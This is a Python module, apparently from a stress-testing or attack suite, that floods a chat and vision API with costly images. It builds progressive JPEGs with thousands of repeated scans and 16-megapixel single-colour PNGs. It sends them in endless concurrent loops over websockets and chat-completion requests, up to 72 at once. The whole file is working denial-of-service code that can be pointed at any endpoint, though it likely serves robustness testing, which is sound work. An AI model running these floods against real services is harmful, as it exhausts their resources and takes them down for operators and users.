"""Pictures that weigh little and cost much: scans upon scans, and pixels of one colour."""

import asyncio
import base64
import functools
import io
import struct
import time

import websockets
from attacks.questions import JSON
from attacks.target import Target, chat, forever, user
from PIL import Image

EOI = b"\xff\xd9"


@functools.cache
def scanned(side: int, scans: int) -> bytes:
    """A progressive JPEG of side x side pixels, all gray, whose last scan stands there `scans` times."""
    buffer = io.BytesIO()
    Image.new("L", (side, side), 128).save(buffer, "JPEG", progressive=True, quality=50)
    data = buffer.getvalue()
    body = data[: data.rindex(EOI)]
    last = body[body.rindex(b"\xff\xda") :]
    return body + last * scans + EOI


@functools.cache
def plain(side: int) -> bytes:
    """A PNG of side x side pixels in one colour: kilobytes."""
    buffer = io.BytesIO()
    Image.new("RGB", (side, side), (200, 30, 30)).save(buffer, "PNG", optimize=True)
    return buffer.getvalue()


def data_url(data: bytes, kind: str) -> dict[str, object]:
    return {"type": "image_url", "image_url": {"url": f"data:image/{kind};base64,{base64.b64encode(data).decode()}"}}


async def pushed_scans(target: Target) -> None:
    """Pushed frames of 16 megapixels and thousands of scans; each session goes once it has sent them."""

    async def act(number: int) -> None:
        frame = scanned(4000, (100, 5000)[number % 2])
        try:
            async with websockets.connect(
                f"{target.ws_url}/v1/realtime?model=push:", additional_headers=target.headers, max_size=None
            ) as socket:
                for _ in range(5):
                    await socket.send(struct.pack(">Q", time.time_ns() // 1000) + frame)
                    await asyncio.sleep(0.3)
        except websockets.WebSocketException:
            await asyncio.sleep(0.5)

    await forever(4, act)


async def sent_scans(target: Target) -> None:
    """The same in messages, at the number of scans that a picture may have, and above it."""
    bodies = [
        chat(user([data_url(scanned(4000, scans), "jpeg"), {"type": "text", "text": "What is this?"}]), "askcam")
        for scans in (50, 100, 5000)
    ]
    async with target.client() as client:
        await forever(
            8, lambda number: client.post("/v1/chat/completions", content=bodies[number % len(bodies)], headers=JSON)
        )


async def plain_pixels(target: Target) -> None:
    """Seventy-two requests at once with three 16 megapixel PNGs of one colour each."""
    body = chat(user([*[data_url(plain(4000), "png")] * 3, {"type": "text", "text": "What is this?"}]), "askcam")
    async with target.client() as client:
        await forever(72, lambda _: client.post("/v1/chat/completions", content=body, headers=JSON))
